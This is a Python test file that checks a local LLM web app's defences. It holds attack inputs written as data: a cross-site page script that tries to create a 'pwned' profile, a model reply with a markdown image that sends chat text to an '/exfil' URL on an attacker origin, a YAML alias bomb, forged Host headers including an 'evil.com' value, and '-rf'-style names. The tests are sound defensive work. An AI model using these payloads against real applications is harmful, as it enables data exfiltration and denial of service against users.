"""What a hostile web page, a local process or a model's own output could still do (docs/security.md).

One test (or a few) per defence, on the real app process; framing, cross-origin requests and
remote images in model output run in real Chromium against a page served by "another local
program" (a second port on localhost, a different origin from the app's 127.0.0.1 one).
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator

import httpx
import psutil
import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from tests.harness.app_process import app_env, module_app, running_app
from tests.harness.browser import find_marked, wait_for
from tests.harness.models import build_scripted
from tests.harness.page_site import PageSite

YAML = {"Content-Type": "application/yaml"}
JSON_HEADER = {"Content-Type": "application/json"}


@pytest.fixture(scope="module")
def evil() -> Iterator[PageSite]:
    site = PageSite()
    yield site
    site.close()


@pytest.fixture(scope="module")
def app(hub_cache, tmp_path_factory, evil: PageSite):
    root = tmp_path_factory.mktemp("hardening")
    image_reply = ["Look", ": ", "![chart](", f"{evil.origin()}/exfil?d=", "secret-chat-text", ")", " done"]
    exfil_model = build_scripted(root / "exfil", image_reply)
    with module_app(root / "home", hub_cache.cache_dir) as app:
        for name, model in (("plain", hub_cache.repos["plain"]), ("exfil", str(exfil_model))):
            created = httpx.post(f"{app.url}/api/profiles", json={"name": name, "model": model}, timeout=30)
            assert created.status_code == 201, created.text
        yield app


def state_of(app, name: str) -> str:
    return httpx.get(f"{app.url}/api/servers/{name}").json()["state"]


# --- 1. framing -------------------------------------------------------------------------------


def test_every_answer_forbids_framing_and_sets_a_csp(app) -> None:
    for path in ("/servers", "/api/status", "/healthz", "/v1/models", "/assets/icon.svg", "/nope"):
        headers = httpx.get(app.url + path).headers
        assert headers["x-frame-options"] == "DENY", path
        assert "frame-ancestors 'none'" in headers["content-security-policy"], path
        assert "img-src 'self' data: blob:" in headers["content-security-policy"], path
        assert headers["referrer-policy"] == "no-referrer" and headers["x-content-type-options"] == "nosniff"
    body = {"model": "plain", "messages": [{"role": "user", "content": "hi"}], "stream": True}
    with httpx.stream("POST", f"{app.url}/v1/chat/completions", json=body, timeout=60) as streamed:
        assert streamed.status_code == 200 and streamed.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in streamed.headers["content-security-policy"]
        streamed.read()
    assert httpx.post(f"{app.url}/api/servers/plain/stop", timeout=30).status_code == 200


def test_another_site_cannot_frame_the_ui(app, evil: PageSite, chrome) -> None:
    evil.pages["/frame.html"] = f'<iframe id="ui" src="{app.url}/servers" width="900" height="600"></iframe>'
    chrome.get(f"{evil.origin()}/frame.html")
    frame = wait_for(lambda: chrome.find_element(By.ID, "ui"), what="iframe")
    time.sleep(1.0)  # the frame's navigation is refused by the browser, not by a timeout
    chrome.switch_to.frame(frame)
    try:
        assert not chrome.find_elements(By.CSS_SELECTOR, '[data-testid="nav-servers"]'), (
            "the UI rendered in a frame"
        )
        assert not chrome.find_elements(By.CSS_SELECTOR, "button")
    finally:
        chrome.switch_to.default_content()


# --- 2. origin means origin -------------------------------------------------------------------

CSRF_PAGE = """<script>
window.results = {};
const app = "%(app)s";
const note = (key) => [(r) => { results[key] = "answered " + (r.status || "opaque"); }, (e) => { results[key] = "blocked"; }];
fetch(app + "/api/profiles", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
      body: JSON.stringify({name: "pwned", model: "%(model)s"})}).then(...note("profile"));
fetch(app + "/api/servers/plain/start", {method: "POST", mode: "no-cors"}).then(...note("start"));
fetch(app + "/_nicegui_ws/socket.io/?EIO=4&transport=polling", {credentials: "include"}).then(...note("poll"));
const ws = new WebSocket(app.replace("http", "ws") + "/_nicegui_ws/socket.io/?EIO=4&transport=websocket");
ws.onopen = () => { results.ws = "open"; }; ws.onerror = () => { results.ws = "error"; };
</script>"""


def test_a_page_of_another_local_program_cannot_change_anything(
    app, evil: PageSite, hub_cache, chrome
) -> None:
    assert httpx.post(f"{app.url}/api/servers/plain/stop", timeout=30).status_code == 200  # a known start
    evil.pages["/csrf.html"] = CSRF_PAGE % {"app": app.url, "model": hub_cache.repos["plain"]}
    chrome.get(f"{evil.origin()}/csrf.html")
    results = wait_for(lambda: (r := chrome.execute_script("return window.results")) and len(r) == 4 and r,
                       timeout=15, what="the page's requests")  # fmt: skip
    assert results["poll"] == "blocked", "socket.io must not hand its answer to another origin"
    assert results["ws"] == "error", "the websocket handshake from another origin is refused"
    time.sleep(0.5)
    assert [p["name"] for p in httpx.get(f"{app.url}/api/profiles").json()] == ["exfil", "plain"]
    assert state_of(app, "plain") == "stopped"


def test_origin_port_and_fetch_metadata_are_checked(app, evil: PageSite) -> None:
    body = json.dumps({"name": "pwned", "model": "x/y"})
    for headers in (
        {"Origin": evil.origin()},  # localhost, but another port: another program's page
        {"Origin": "http://127.0.0.1"},
        {"Origin": app.url, "Sec-Fetch-Site": "same-site"},  # a sibling origin, said by the browser
        {"Origin": app.url, "Sec-Fetch-Site": "cross-site"},
    ):
        refused = httpx.post(f"{app.url}/api/profiles", content=body, headers={**JSON_HEADER, **headers})
        assert refused.status_code == 403, headers
    polled = httpx.get(
        f"{app.url}/_nicegui_ws/socket.io/?EIO=4&transport=polling", headers={"Origin": evil.origin()}
    )
    assert polled.status_code == 403 and "access-control-allow-origin" not in polled.headers
    as_text = httpx.post(f"{app.url}/api/profiles", content=body, headers={"Content-Type": "text/plain"})
    assert as_text.status_code == 415, "a body a page could send without a preflight is refused"
    for host in ("localhost:18970@evil.com", f"127.0.0.1:{app.port}x", "localhost:abc"):
        assert httpx.get(f"{app.url}/api/status", headers={"Host": host}).status_code == 403, host
    assert [p["name"] for p in httpx.get(f"{app.url}/api/profiles").json()] == ["exfil", "plain"]


# --- 3. YAML import ---------------------------------------------------------------------------

ALIAS_BOMB = "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(8)
)


def test_a_yaml_alias_bomb_is_refused_at_once_and_the_app_keeps_answering(app) -> None:
    from mlxui.servers.profiles import ProfileError, _parse_export

    assert len(ALIAS_BOMB) < 600
    started = time.monotonic()
    with pytest.raises(ProfileError):
        _parse_export(ALIAS_BOMB)
    assert time.monotonic() - started < 0.1, "refused before anything is expanded"
    health: list[float] = []
    stop = threading.Event()

    def probe() -> None:
        while not stop.is_set():
            started = time.monotonic()
            assert httpx.get(f"{app.url}/healthz", timeout=5).status_code == 200
            health.append(time.monotonic() - started)

    prober = threading.Thread(target=probe, daemon=True)
    prober.start()
    started = time.monotonic()
    refused = httpx.post(f"{app.url}/api/profiles/import", content=ALIAS_BOMB, headers=YAML, timeout=30)
    took = time.monotonic() - started
    stop.set()
    prober.join(10)
    assert refused.status_code == 422, refused.text
    assert refused.json()["error"]["fields"] == {
        "file": "YAML anchors and aliases (& and *) are not allowed in an export."
    }
    assert took < 0.5, f"the refusal took {took:.2f} s"  # a local round trip; the parse itself is < 1 ms
    assert health and max(health) < 1.0, "/healthz kept answering"


# --- 4. model output cannot phone home --------------------------------------------------------


def test_a_remote_image_in_a_reply_is_a_link_never_fetched(app, evil: PageSite, chrome) -> None:
    evil.requests.clear()
    chrome.get(f"{app.url}/chat?server=exfil")
    box = wait_for(lambda: find_marked(chrome, "message-input"), what="composer")
    box.send_keys("hello")
    box.send_keys(Keys.ENTER)

    def finished():
        replies = chrome.find_elements(By.CSS_SELECTOR, '[data-testid="message-assistant"]')
        return replies and replies[-1].get_attribute("data-status") == "complete"

    wait_for(finished, timeout=90, what="the reply")
    assert chrome.find_elements(By.CSS_SELECTOR, ".mlxui-remote-image"), "a link while and after it streamed"
    chat_row = chrome.find_element(By.CSS_SELECTOR, '[data-testid^="chat-row-"]').get_attribute("data-testid")
    chrome.get(f"{app.url}/chat?chat={chat_row.removeprefix('chat-row-')}")  # the stored reply, rendered anew
    wait_for(
        lambda: chrome.find_elements(By.CSS_SELECTOR, ".mlxui-remote-image"), timeout=20, what="image link"
    )
    link = chrome.find_element(By.CSS_SELECTOR, ".mlxui-remote-image")
    assert link.get_attribute("href").startswith(f"{evil.origin()}/exfil")
    assert "noreferrer" in link.get_attribute("rel")
    assert not chrome.find_elements(By.CSS_SELECTOR, f'img[src^="{evil.origin()}"]')
    time.sleep(0.5)
    assert not [r for r in evil.requests if r.startswith("/exfil")], "the image host was contacted"
    httpx.post(f"{app.url}/api/servers/exfil/stop", timeout=30)


# --- 5. uploads -------------------------------------------------------------------------------


UPLOAD_URL_JS = """
const uploader = document.querySelector('.q-uploader');
return uploader ? getElement(uploader.id.replace(/^c/, '')).$props.url : null;
"""


def test_a_huge_upload_is_refused_before_it_is_read(app, chrome) -> None:
    chrome.get(f"{app.url}/chat?server=plain")  # the composer's (hidden) image uploader
    route = wait_for(lambda: chrome.execute_script(UPLOAD_URL_JS), timeout=20, what="the upload route")
    process = psutil.Process(app.pid)
    before = process.memory_info().rss
    chunk = b"\0" * (1024 * 1024)

    form = {"Content-Type": "multipart/form-data; boundary=xyz"}

    def body() -> Iterator[bytes]:  # one 300 MB image, sent chunked: no Content-Length to refuse it by
        yield b'--xyz\r\nContent-Disposition: form-data; name="f"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n'
        for _ in range(300):
            yield chunk
        yield b"\r\n--xyz--\r\n"

    url = app.url + route
    try:
        response = httpx.post(url, content=body(), headers=form, timeout=60)
        assert response.status_code == 413
    except httpx.TransportError:
        pass  # the app may close the connection once the limit is passed
    # A declared 300 MB: refused from the headers alone (a raw socket: httpx will not lie about lengths).
    with socket.create_connection(("127.0.0.1", app.port), timeout=10) as raw:
        head = (f"POST {route} HTTP/1.1\r\nHost: 127.0.0.1:{app.port}\r\nContent-Type: {form['Content-Type']}"
                f"\r\nContent-Length: {300 * 1024 * 1024}\r\n\r\n")  # fmt: skip
        raw.sendall(head.encode())
        assert raw.recv(4096).startswith(b"HTTP/1.1 413 ")
    grown = process.memory_info().rss - before
    assert grown < 50_000_000, f"the app grew by {grown / 1e6:.0f} MB for a refused upload"


# --- 6. the gateway key -----------------------------------------------------------------------


def test_the_gateway_key_is_never_sent_back_and_guards_v1_and_metrics(app) -> None:
    key = "hardening-key-123"
    assert httpx.put(f"{app.url}/api/settings", json={"gateway_key": key}).status_code == 200
    try:
        assert key not in httpx.get(f"{app.url}/api/settings").text
        assert key not in httpx.get(f"{app.url}/settings").text
        assert httpx.get(f"{app.url}/metrics").status_code == 401
        assert httpx.get(f"{app.url}/metrics", headers={"Authorization": f"Bearer {key}"}).status_code == 200
        for scheme in ("Bearer", "bearer", "BEARER"):
            answer = httpx.get(f"{app.url}/v1/models", headers={"Authorization": f"{scheme} {key}"})
            assert answer.status_code == 200, scheme
        twice = httpx.get(
            f"{app.url}/v1/models",
            headers=[("Authorization", f"Bearer {key}"), ("Authorization", "Bearer other-key-456")],
        )
        assert twice.status_code == 401, "two Authorization headers are refused, not guessed between"
    finally:
        httpx.put(f"{app.url}/api/settings", json={"gateway_key": None})


def test_bound_beyond_loopback_mlxui_makes_a_key_and_asks_remote_clients_for_it(tmp_path) -> None:
    with running_app(tmp_path / "lan-home", args=("--host", "0.0.0.0")) as lan:
        settings = httpx.get(f"{lan.url}/api/settings").json()  # this machine: no key needed
        assert settings["gateway_key_set"] is True
        assert "they need this key" in lan.log_path.read_text()


def test_the_key_gate_signs_remote_browsers_in_with_a_cookie() -> None:
    from fastapi import FastAPI
    from fastapi.testclient import TestClient

    from mlxui.access import KeyGate
    from mlxui.security import HostOriginGuard, HostPolicy

    inner = FastAPI()
    inner.get("/page")(lambda: {"page": True})
    inner.get("/api/status")(lambda: {"ok": True})
    gated = HostOriginGuard(
        KeyGate(inner, lambda: "lan-key-1234", beyond_loopback=True), HostPolicy("0.0.0.0")
    )
    remote = TestClient(gated, base_url="http://192.168.1.5:8765")  # its client address is not loopback
    assert remote.get("/api/status").status_code == 401
    assert remote.get("/api/status", headers={"Authorization": "Bearer lan-key-1234"}).status_code == 200
    page = remote.get("/page", follow_redirects=False)
    assert page.status_code == 303 and page.headers["location"] == "/login?next=/page"
    assert remote.get("/login").status_code == 200
    wrong = remote.post("/login", data={"key": "guess"}, follow_redirects=False)
    assert wrong.status_code == 401 and "not the key" in wrong.text
    right = remote.post("/login?next=/page", data={"key": "lan-key-1234"}, follow_redirects=False)
    assert right.status_code == 303 and right.headers["location"] == "/page"
    assert "lan-key-1234" not in right.headers["set-cookie"] and "HttpOnly" in right.headers["set-cookie"]
    assert remote.get("/page").json() == {"page": True}, "the cookie signs the browser in"


# --- 7. bad bodies ----------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/api/profiles", "/api/settings", "/v1/chat/completions"])
def test_json_nested_a_thousand_levels_gets_a_json_400(app, path: str) -> None:
    deep = "[" * 1000 + "]" * 1000
    method = "PUT" if path == "/api/settings" else "POST"
    response = httpx.request(method, app.url + path, content=deep, headers=JSON_HEADER, timeout=20)
    assert response.status_code == 400, response.text
    assert response.json()["error"]["message"]


# --- 8. names and the CLI ---------------------------------------------------------------------


@pytest.mark.parametrize("name", ["..", ".", "-rf", "--help"])
def test_names_of_dots_or_starting_with_a_dash_are_refused(app, hub_cache, name: str) -> None:
    response = httpx.post(f"{app.url}/api/profiles", json={"name": name, "model": hub_cache.repos["plain"]})
    assert response.status_code == 422 and "name" in response.json()["error"]["fields"]


@pytest.mark.parametrize("name", ["..", "."])
def test_the_cli_says_one_line_for_a_dots_name(app, name: str) -> None:
    env = app_env(app.home, {"MLXUI_PORT": str(app.port)})
    result = subprocess.run([sys.executable, "-m", "mlxui", "servers", "stop", name], env=env,
                            capture_output=True, text=True, timeout=60)  # fmt: skip
    assert result.returncode == 2, result
    assert len(result.stderr.strip().splitlines()) == 1 and "<html" not in result.stderr.lower(), (
        result.stderr
    )


def test_a_256_character_repo_id_gets_one_line_from_the_cli(tmp_path) -> None:
    repo = "org/" + "x" * 252
    result = subprocess.run([sys.executable, "-m", "mlxui", "models", "info", repo], env=app_env(tmp_path),
                            capture_output=True, text=True, timeout=60)  # fmt: skip
    assert result.returncode in (1, 2), result
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
